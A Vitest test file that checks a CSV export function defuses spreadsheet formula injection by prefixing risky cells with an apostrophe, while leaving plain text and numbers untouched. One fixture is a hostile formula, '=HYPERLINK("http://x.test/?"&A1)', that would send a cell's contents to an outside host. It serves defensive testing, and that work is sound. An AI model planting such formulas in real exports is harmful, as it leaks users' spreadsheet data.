import { expect, it } from 'vitest'
import { csvLines } from '@/ui/saveFile'

it.each([
  '=1+1',
  '+1',
  '-1',
  '@x',
  '\tx',
  '\rx',
  '\nx',
  '=HYPERLINK("http://x.test/?"&A1)\nand a second line',
])('takes the sting out of a formula: %j', text => {
  const line = csvLines([[text]])
  expect(line.replace(/^"/, '').startsWith("'")).toBe(true)
})

it('leaves alone what is no formula, and numbers', () => {
  expect(csvLines([['Hummus, 500 g', 'a=b', -3]])).toBe('"Hummus, 500 g",a=b,-3\r\n')
})
